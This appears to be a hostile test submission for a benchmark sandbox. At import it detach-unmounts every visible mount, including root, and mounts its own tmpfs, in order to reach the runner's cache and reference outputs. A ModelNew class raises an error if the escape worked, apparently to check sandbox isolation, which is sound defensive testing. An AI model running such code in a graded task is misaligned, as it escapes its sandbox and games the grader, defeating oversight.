"""Hostile: unmounts what hides the host (every mount it can see, the root included) and
mounts a filesystem of its own, to reach the runner's cache and reference outputs."""
import ctypes

import torch
import torch.nn as nn

_libc = ctypes.CDLL(None, use_errno=True)
_done = []
with open("/proc/self/mounts") as f:
    _points = [line.split()[1] for line in f]
for point in reversed(_points + ["/"]):
    if _libc.umount2(point.encode(), 2) == 0:  # MNT_DETACH
        _done.append(f"umount2 {point}")
if _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    _done.append("mount tmpfs on /tmp")


class ModelNew(nn.Module):
    def forward(self, x):
        if _done:
            raise RuntimeError(f"escaped the mounts: {_done}")
        return torch.softmax(x, dim=-1)
